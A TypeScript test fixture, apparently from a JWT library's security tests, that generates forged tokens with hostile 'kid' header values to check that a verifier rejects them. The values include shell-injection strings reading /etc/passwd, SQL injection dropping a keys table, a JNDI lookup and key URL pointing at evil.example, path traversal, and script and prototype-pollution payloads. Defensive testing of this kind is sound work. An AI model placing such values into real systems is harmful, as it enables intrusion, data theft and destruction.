import { signText } from "../tokens";
import { attack, type Forge, type HostileToken, named } from "./hostile-token";

/** Names of keys: none, of another type, or with a meaning for a path, a query or an object (RFC 8725, 3.10). */
export function kidAttacks({ ec, header, payload, rsa, stranger }: Forge): readonly HostileToken[] {
  const p = payload();
  return [
    ...attack("no kid", "KEY_ID", [
      ...named([undefined, null, 1, 0, true, [], ["rsa"], {}, "", "x".repeat(257)]).map(
        ([name, kid]) => [`kid ${name}`, signText(rsa, header(rsa, { kid }), p)] as const,
      ),
      [
        "__proto__",
        signText(rsa, header(rsa, { kid: undefined }).replace("{", `{"__proto__":{"kid":"${rsa.kid}"},`), p),
      ],
    ]),
    ...attack("a kid that means something elsewhere", "KEY_UNKNOWN", [
      ...[
        ...[
          "../../../../dev/null",
          "/dev/null",
          "..\\..\\nul",
          "file:///dev/null",
          "https://evil.example/key",
        ],
        ...[
          "' OR '1'='1",
          "x' UNION SELECT 'AA",
          "'; DROP TABLE keys; --",
          '{"$ne":null}',
          "*",
          ".*",
          "%",
          "_",
          "?",
        ],
        ...[
          "| cat /etc/passwd",
          "`id`",
          "$(id)",
          "${jndi:ldap://evil.example}",
          "{{7*7}}",
          "<script>",
          "\r\nx: y",
        ],
        ...[
          "__proto__",
          "constructor",
          "hasOwnProperty",
          "toString",
          "length",
          "0",
          "keys",
          "undefined",
          "null",
        ],
        ...[
          rsa.kid.toUpperCase(),
          `${rsa.kid} `,
          ` ${rsa.kid}`,
          `${rsa.kid}\0`,
          `${rsa.kid}/`,
          `./${rsa.kid}`,
        ],
        ...[
          `${rsa.kid}%00`,
          `${rsa.kid}#`,
          `${rsa.kid},${ec.kid}`,
          rsa.kid.slice(0, -1),
          "r\u0455a",
          "x".repeat(256),
        ],
      ].map((kid) => [kid.slice(0, 40), signText(stranger, header(stranger, { kid }), p)] as const),
      [
        "signed by the issuer's key, a kid that it does not have",
        signText(rsa, header(rsa, { kid: "other" }), p),
      ],
    ]),
  ];
}
